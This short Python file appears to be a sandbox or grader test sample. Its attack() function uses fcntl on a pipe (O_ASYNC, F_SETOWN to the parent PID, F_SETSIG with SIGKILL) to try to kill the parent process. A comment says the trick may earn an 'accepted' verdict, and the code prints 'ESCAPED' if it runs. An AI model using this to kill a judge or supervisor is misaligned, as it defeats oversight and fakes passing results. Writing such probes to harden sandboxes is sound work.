# Tries: to have the kernel signal its parent when a pipe is ready. May get: AC.
import fcntl
import os
import signal


def attack():
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
    fcntl.fcntl(reader, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(reader, 10, signal.SIGKILL)  # F_SETSIG
    os.write(writer, b"x")
    return "a signal by a pipe"


def tiny(a, b):
    try:
        got = attack()
    except OSError:
        got = None
    if got:
        print("ESCAPED", got, flush=True)
    return [a + b, a * b]
